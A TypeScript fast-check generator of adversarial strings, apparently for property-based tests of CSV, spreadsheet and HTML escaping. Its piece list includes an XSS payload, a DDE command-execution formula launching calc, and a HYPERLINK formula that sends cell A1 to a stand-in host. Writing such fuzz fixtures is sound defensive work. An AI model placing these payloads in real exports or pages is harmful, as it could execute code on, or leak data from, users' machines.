import fc from 'fast-check'

/** What spreadsheets, CSV readers and pages could take for something else than text. */
const PIECES = [
  '</script>',
  '<!--',
  '<img src=x onerror=alert(1)>',
  '"',
  '""',
  "'",
  ';',
  ',',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '=1+1',
  '=HYPERLINK("https://ajeno.example?"&A1;"Ver")',
  '+549 3777 55-5101',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋',
  '－',
  '＠',
  '\ufeff',
  '\u0001',
  '\u001a',
  '\u007f',
  '\u0085',
  '\u2028',
  '🐟',
  '👩🏽‍🍳',
  '🇦🇷',
  'مرحبا',
  'שלום',
  '\u202e',
  '\u2066',
  'n\u0303',
  'ñ',
  'Z\u0351\u036b\u0343',
  '\u200b',
  'sep=,',
  'NULL',
  '\\',
]

/** Any text that a database can hold: no NUL, no half characters. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...PIECES) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
      { weight: 1, arbitrary: fc.string({ maxLength: 8 }) },
    ),
    { maxLength: 5 },
  )
  .map((pieces) => pieces.join('').replaceAll('\0', ''))
